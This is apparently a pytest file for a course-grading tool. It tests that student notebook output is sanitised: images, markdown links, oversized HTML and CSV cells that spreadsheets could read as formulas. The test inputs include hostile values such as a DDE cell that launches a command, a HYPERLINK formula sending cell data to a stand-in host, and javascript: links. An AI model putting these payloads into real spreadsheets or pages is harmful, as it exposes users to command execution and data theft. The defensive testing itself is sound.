"""What makes a student's texts harmless, and tables that a spreadsheet opens."""

import base64
import time

import pytest
from bs4 import BeautifulSoup
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from coursekit.grading import harmless
from coursekit.grading.tables import csv_text

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def test_a_picture_is_a_picture() -> None:
    written = base64.b64encode(PNG).decode()
    assert harmless.KINDS["image/png"](written) == written
    assert harmless.KINDS["image/png"](f"{written[:40]}\n{written[40:]}\n") == written
    for other in ("", "x", written[:-8], written[4:], f'{written}"', f"{written} onerror=x", "<svg/>", "é"):
        assert harmless.KINDS["image/png"](other) == ""
    assert harmless.KINDS["image/jpeg"](written) == ""


@pytest.mark.parametrize(
    "text",
    [
        "[x](evil.html)", "[x](/formgrader/gradebook)", "[x](//a.invalid)", "[x](?y)", "[x](#y)",
        "[x][y]\n\n[y]: evil.html", "[y]\n\n[y]:\n  evil.html", "[x](<evil.html>)", "[x](\n evil.html)",
        "[x](http.html)", "![x](evil.svg)",
        "[x](\\javascript:y)", "[x](httpx://y)",
    ],
)  # fmt: skip
def test_a_link_leads_to_the_web_or_nowhere(text: str) -> None:
    page = BeautifulSoup(markdown2html_mistune(harmless.markdown(text)), "html.parser")
    # Headings have links of their own.
    assert not page.find_all(["a", "img"]), text


def test_a_link_to_the_web_stays_one() -> None:
    text = harmless.markdown("[x](https://example.org/a?b=c) and [y](mailto:a@example.org)")
    page = BeautifulSoup(markdown2html_mistune(text), "html.parser")
    assert [link["href"] for link in page.find_all("a")] == ["https://example.org/a?b=c", "mailto:a@example.org"]


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 40_000, "<b>" * 60_000, "<font color=1>" * 14_000, "&" * 200_000, "<" * 200_000,
        "<p " + "a=b " * 50_000 + ">", "<table><tr><td>" * 13_000, "\\href" * 40_000,
    ],
)  # fmt: skip
def test_what_is_made_to_take_long_does_not(text: str) -> None:
    start = time.monotonic()
    harmless.html(text)
    harmless.markdown(text)
    assert time.monotonic() - start < 20


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "x;=1", "x;\t@A",
        "x\n=1", "＝1", "＋1", "－1", "＠A", "\u200b=1", "\ufeff=1", '=HYPERLINK("http://a.invalid/?x="&A2,"press")',
        ";=1", "x; =1",
    ],
)  # fmt: skip
def test_no_text_in_a_table_is_a_formula(cell: str) -> None:
    for line_end in ("\n", "\r\n"):
        text = csv_text([cell], [[cell, 1]], line_end)
        for part in text.replace('"', "").replace(";", "\n").replace(",", "\n").splitlines():
            assert part.strip(" \t\u00a0\u200b\ufeff")[:1] not in tuple("=+-@＝＋－＠"), (text, part)


def test_what_is_no_formula_is_as_it_was() -> None:
    assert csv_text(["a", "b"], [["ليلى, x-y", -2.5], [None, "s001@example.org"], ["a = b; c", "1-2"]]) == (
        'a,b\n"ليلى, x-y",-2.5\n,s001@example.org\na = b; c,1-2\n'
    )
